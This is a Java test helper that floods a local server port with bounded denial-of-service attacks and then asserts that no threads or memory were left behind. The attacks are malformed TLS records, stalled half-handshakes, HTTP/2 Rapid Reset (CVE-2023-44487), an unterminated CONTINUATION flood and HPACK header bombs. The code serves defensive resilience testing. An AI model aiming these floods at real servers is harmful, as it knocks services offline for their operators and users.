package io.endomesh.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import javax.net.ssl.SSLContext;

/**
 * What whoever reaches a port of the mesh may throw at it, and what is left of that. Each flood is
 * bounded, so that a server without any limit takes it in seconds as well. Not thread-safe.
 */
final class Floods {

  static final int BROKEN = 700;
  static final int STALLED = 300;

  private static final int RESETS = 3_000;
  private static final int CONTINUATIONS = 64;
  private static final int FRAME_BYTES = 16_384;
  private static final int BOMBS = 20;

  /** What is left when all is over: the chunks of pooled buffers of old versions of Netty. */
  private static final long KEPT_BYTES = 96L << 20;

  /** A container's own pool may have grown, and stays so. */
  private static final int POOL = 250;

  private static final byte HANDSHAKE = 0x16;

  /** Of a record of 508 bytes, the begin of a ClientHello. */
  private static final byte[] HALF_A_HELLO = {HANDSHAKE, 3, 1, 1, -4, 1, 0, 1, -8, 3, 3};

  private final int port;
  private final long heap = heap();
  private final int threads = ManagementFactory.getThreadMXBean().getThreadCount();
  private final long agentThreads = agentThreads();

  Floods(int port) {
    this.port = port;
  }

  /** Records of TLS that are none, and what is nothing at all. */
  void breakHandshakes() {
    Random random = new Random(20_261_127);
    for (int i = 0; i < BROKEN; i++) {
      byte[] bytes = new byte[1 + random.nextInt(200)];
      random.nextBytes(bytes);
      if (i % 2 == 0) {
        bytes[0] = HANDSHAKE;
      }
      try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        socket.getOutputStream().write(bytes);
      } catch (IOException cutOff) {
        // As good.
      }
    }
  }

  /** Connections that say nothing, or half of what begins a handshake, and stay. */
  List<Socket> stall() {
    List<Socket> stalled = new ArrayList<>();
    for (int i = 0; i < STALLED; i++) {
      try {
        Socket socket = new Socket(InetAddress.getLoopbackAddress(), port);
        stalled.add(socket);
        if (i % 2 == 0) {
          socket.getOutputStream().write(HALF_A_HELLO);
        }
      } catch (IOException cutOff) {
        // As good.
      }
    }
    return stalled;
  }

  /** CVE-2023-44487. */
  void resetRapidly(SSLContext tls, String path) {
    attack(
        tls,
        connection -> {
          byte[] head = connection.head("GET", path).toByteArray();
          for (int stream = 1; stream < 2 * RESETS; stream += 2) {
            connection.frame(
                RawHttp2.HEADERS, RawHttp2.END_STREAM | RawHttp2.END_HEADERS, stream, head);
            connection.frame(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
          }
        });
  }

  /** A head of 1 MB that does not end. */
  void continueWithoutEnd(SSLContext tls, String path) {
    ByteArrayOutputStream part = new ByteArrayOutputStream();
    while (part.size() + 120 < FRAME_BYTES) {
      RawHttp2.literal(part, "x-flood", "x".repeat(100));
    }
    attack(
        tls,
        connection -> {
          connection.frame(
              RawHttp2.HEADERS, RawHttp2.END_STREAM, 1, connection.head("GET", path).toByteArray());
          for (int i = 0; i < CONTINUATIONS; i++) {
            connection.frame(RawHttp2.CONTINUATION, 0, 1, part.toByteArray());
          }
        });
  }

  /** Heads of 30 MB each in 13 kB: an entry of the table (RFC 7541, 6.2.1), and then its number. */
  void sendHeaderBombs(SSLContext tls, String path) {
    byte[] value = new byte[3_000];
    Arrays.fill(value, (byte) 'x');
    attack(
        tls,
        connection -> {
          for (int i = 0; i < BOMBS; i++) {
            ByteArrayOutputStream block = connection.head("GET", path);
            block.writeBytes(new byte[] {0x40, 6, 'x', '-', 'b', 'o', 'm', 'b'});
            block.writeBytes(new byte[] {0x7f, (byte) 0xb9, 0x16}); // 3,000 (RFC 7541, 5.1)
            block.writeBytes(value);
            for (int times = 0; times < 10_000; times++) {
              block.write(0xbe);
            }
            connection.frame(
                RawHttp2.HEADERS,
                RawHttp2.END_STREAM | RawHttp2.END_HEADERS,
                1 + 2 * i,
                block.toByteArray());
          }
        });
  }

  private interface Attack {
    void on(RawHttp2 connection) throws IOException;
  }

  /** Until the server has had all of it, or has ended it. */
  private void attack(SSLContext tls, Attack attack) {
    try (RawHttp2 connection = RawHttp2.to(port, tls)) {
      attack.on(connection);
      connection.frame(RawHttp2.PING, 0, 0, new byte[8]);
      connection.flush();
      connection.awaitPingOrEnd();
    } catch (IOException cutOff) {
      // As it should be.
    }
  }

  /** Nothing that was kept for those that attacked, and no thread of the agent. */
  void assertNothingIsLeft() {
    Await.until("the agent's threads end", () -> agentThreads() <= agentThreads + 1);
    assertThat(ManagementFactory.getThreadMXBean().getThreadCount()).isLessThan(threads + POOL);
    long kept = heap() - heap;
    if (kept >= KEPT_BYTES) {
      // What connections had that have just ended is let go by and by.
      Await.until("all but " + KEPT_BYTES + " of " + kept, () -> heap() - heap < KEPT_BYTES);
    }
  }

  private static long agentThreads() {
    return Thread.getAllStackTraces().keySet().stream()
        .filter(thread -> thread.getName().startsWith("endomesh-"))
        .count();
  }

  private static long heap() {
    System.gc();
    return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
  }
}
